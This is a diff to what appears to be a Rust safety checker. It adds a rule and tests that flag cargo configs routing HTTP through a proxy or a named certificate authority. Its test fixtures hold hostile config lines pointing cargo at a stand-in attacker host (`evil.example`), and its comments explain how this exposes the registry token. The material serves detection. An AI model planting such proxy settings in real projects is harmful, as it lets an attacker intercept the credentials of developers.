@@ -85,6 +85,9 @@ declare_check! {
     ///   `.cargo/config.toml`; `poetry show --outdated`/`--latest` with a
     ///   `[[tool.poetry.source]]`; `uv pip list --outdated` with a named index
     ///   (`[[tool.uv.index]]`, `[[index]]` in `uv.toml`);
+    /// - cargo with a `.cargo/config.toml` whose `[http]` names a proxy or a certificate
+    ///   authority (`proxy`, `cainfo`, `proxy-cainfo`, `check-revoke`): the requests, the
+    ///   registry token of `cargo owner` included, go where the checkout chooses;
     /// - codespell with a `.codespellrc`, `setup.cfg` or `pyproject.toml` whose codespell
     ///   section turns on `write-changes` or `interactive` (codespell then rewrites files);
     /// - helm given a chart directory of the checkout (`helm template ./chart`, `helm lint`)
@@ -769,6 +772,12 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                 {
                     return Some(format!(
                         "`{}` names a program cargo runs (a wrapper, runner, linker, credential provider or alias)",
+                        f.display()
+                    ));
+                }
+                if w.cx.look.is_file(&f) && toml_has(&f, &cargo_config_intercepts) {
+                    return Some(format!(
+                        "`{}` sends cargo's requests through a proxy or trusts a certificate authority it names: a host of the checkout could read them, the person's registry token included (`cargo owner`)",
                         f.display()
                     ));
                 }
@@ -3630,6 +3639,17 @@ fn cargo_config_binds_registry(t: &toml::Table) -> bool {
         || named("source", "registry")
 }
 
+/// Whether a cargo config routes cargo's HTTP requests where the checkout chooses: through a
+/// proxy (`http.proxy`), or trusting a certificate authority or revocation setting it names
+/// (`http.cainfo`, `http.proxy-cainfo`, `http.check-revoke`). With a proxy that holds a key
+/// of that authority, the requests are read in the clear, the token cargo sends for the
+/// registry (`cargo owner --list`) among them.
+fn cargo_config_intercepts(t: &toml::Table) -> bool {
+    ["proxy", "cainfo", "proxy-cainfo", "check-revoke"]
+        .iter()
+        .any(|k| has_key(t, &["http", k]))
+}
+
 /// Whether a cargo config names a program cargo runs for `sub` (the subcommand, if any).
 fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
     let build = [
@@ -4406,6 +4426,40 @@ mod tests {
             flagged(root, "echo ./py > notes.txt && uv python find"),
             None
         );
+    }
+
+    #[test]
+    fn cargo_http_proxies_and_authorities_of_the_checkout() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            ".cargo/config.toml",
+            "[http]\ntimeout = 30\nmultiplexing = false\n[net]\nretry = 3\n",
+        );
+        assert_eq!(flagged(root, "cargo owner --list serde"), None);
+        assert_eq!(flagged(root, "cargo tree"), None);
+        for loud in [
+            "[http]\nproxy = \"http://evil.example:8080\"\n",
+            "http.cainfo = \"certs/ca.pem\"\n",
+            "[http]\nproxy-cainfo = \"ca.pem\"\n",
+            "[http]\ncheck-revoke = false\n",
+        ] {
+            write(root, ".cargo/config.toml", loud);
+            assert!(
+                flagged(root, "cargo owner --list serde").is_some(),
+                "{loud:?}"
+            );
+            assert!(flagged(root, "cargo search serde").is_some(), "{loud:?}");
+        }
+        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            "sub/.cargo/config",
+            "[http]\nproxy = \"evil.example:3128\"\n",
+        );
+        assert!(flagged(&root.join("sub"), "cargo info serde").is_some());
+        assert_eq!(flagged(root, "cargo info serde"), None);
     }
 
     #[test]
